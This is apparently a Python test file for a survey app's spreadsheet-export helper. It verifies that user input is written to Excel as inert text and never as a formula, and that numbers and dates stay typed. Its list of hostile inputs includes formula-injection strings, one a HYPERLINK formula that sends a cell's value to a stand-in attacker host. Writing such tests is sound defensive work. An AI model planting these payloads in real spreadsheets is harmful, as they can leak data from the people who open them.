"""safe_cell: what people typed reaches a workbook as text, numbers and dates stay typed."""

import datetime as dt
import io

import openpyxl.xml
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from survey_app.surveys.sheets import clean_text, safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A3,"x")',
    "=1+1+1+1+1",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "#N/A",
    "_x003D_1+2",
    "=",
    "-",
    "Đắk Hà",
]


def write(values, *, write_only: bool) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(safe_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def read_back(data: bytes):
    cells = list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())[0]
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    rows = sheet.to_python(skip_empty_area=False)  # keep leading empty cells in place
    calamine = rows[0] if rows else []
    return cells, calamine + [""] * (len(cells) - len(calamine))


def test_hostile_text_is_text_in_both_kinds_of_workbook():
    for write_only in (False, True):
        cells, calamine = read_back(write(HOSTILE, write_only=write_only))
        assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
        # as Excel and python-calamine read it: exactly what was typed, a CR read as LF
        assert calamine == [v.replace("\r", "\n") for v in HOSTILE]
        assert cells[0].value == HOSTILE[0]
        assert "_x005F_x003D_1+2" in [c.value for c in cells]  # "_" escaped for Excel
        # Excel and LibreOffice keep these text even when the cell is edited
        quoted = [c.quotePrefix for c in cells]
        assert quoted == [not v.startswith(("#", "Đ", "_")) for v in HOSTILE]


def test_numbers_and_dates_stay_typed():
    values = [12, 12.5, -3, True, dt.date(2017, 9, 30), "-3"]
    cells, calamine = read_back(write(values, write_only=True))
    assert [c.data_type for c in cells] == ["n", "n", "n", "b", "d", "s"]
    assert cells[4].number_format == "DD/MM/YYYY"
    assert calamine[:3] == [12, 12.5, -3] and calamine[5] == "-3"
    assert calamine[4] == dt.date(2017, 9, 30)


def test_a_null_character_is_dropped_and_what_follows_stays_text():
    cells, calamine = read_back(write(["\0=1+2", "a\x01b"], write_only=False))
    assert [c.value for c in cells] == ["=1+2", "ab"]
    assert [c.data_type for c in cells] == ["s", "s"] and cells[0].quotePrefix
    assert calamine == ["=1+2", "ab"]


def test_bold_empty_cell_and_none():
    book = Workbook()
    sheet = book.active
    assert safe_cell(sheet, None) is None
    assert safe_cell(sheet, None, bold=True).font.bold


@settings(max_examples=100, deadline=None)
@example(["\n"])
@example([" ", "\u3000"])
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=5))
def test_any_text_reads_back_as_itself_and_never_as_a_formula(texts):
    cells, calamine = read_back(write(texts, write_only=False))
    assert all(c.data_type == "s" or c.value is None for c in cells)
    for text, cell, read in zip(texts, cells, calamine, strict=True):
        expected = clean_text(text)
        # openpyxl's own XML writer does not mark a cell of only (Unicode) white space
        # xml:space="preserve", so a reader drops the XML white space at its ends; with
        # lxml installed (python-docx brings it) openpyxl writes through lxml and keeps it
        if expected.strip() or openpyxl.xml.LXML:
            assert read == expected
        else:
            assert read == expected.strip(" \t\n\r")
        starts = ("=", "+", "-", "@", "\t", "\r", "\0")
        assert cell.quotePrefix == (text.startswith(starts) or expected.startswith(starts))
